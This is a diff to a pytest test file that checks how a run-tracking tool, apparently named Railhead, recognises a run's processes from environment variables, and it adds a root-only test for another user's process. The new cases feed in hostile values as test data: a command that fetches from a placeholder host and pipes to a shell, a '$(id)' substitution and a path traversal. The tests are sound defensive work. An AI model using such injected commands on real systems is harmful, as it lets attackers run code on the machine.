@@ -81,8 +81,14 @@ def test_what_is_under_the_home_is_found(shell: list[str], home: Path) -> None:
         ({"RAILHEAD_RUN": ""}, False),
         ({"NOT_RAILHEAD_RUN": "x"}, False),
         ({"RAILHEAD_RUN": "x", "RAILHEAD_HOME": "/elsewhere"}, False),
+        ({"RAILHEAD_RUN": "x;curl${IFS}example.invalid|sh;"}, False),
+        ({"RAILHEAD_RUN": "$(id)"}, False),
+        ({"RAILHEAD_RUN": "../x"}, False),
     ],
-    ids=["a run's", "after a backslash", "after a newline", "of no run", "another's", "their home"],
+    ids=[
+        *("a run's", "after a backslash", "after a newline", "of no run", "another's"),
+        *("their home", "a command", "a substitution", "a path"),
+    ],
 )
 def test_a_process_of_a_run_is_known_by_its_environment(
     shell: list[str], home: Path, variables: dict[str, str], found: bool | None
@@ -99,6 +105,18 @@ def test_a_process_of_a_run_is_known_by_its_environment(
     assert seen == ([] if found is False else [(process.pid, str(here))])
     if found:
         assert run_processes[0].run_id == "20261121-101500-3f2a"
+
+
+@each_shell
+@pytest.mark.root
+def test_a_process_of_another_user_makes_no_host_busy(shell: list[str], home: Path) -> None:
+    """root, as whom many log in, can read its environment."""
+    variables = {"RAILHEAD_RUN": "20261121-101500-3f2a", "RAILHEAD_HOME": str(home)}
+    with subprocess.Popen(["/bin/sleep", "60"], env=variables, user="nobody") as process:
+        try:
+            assert parse(ask(shell, home, os.defpath)).run_processes == ()
+        finally:
+            process.kill()
 
 
 def tools(folder: Path, without: str) -> str:
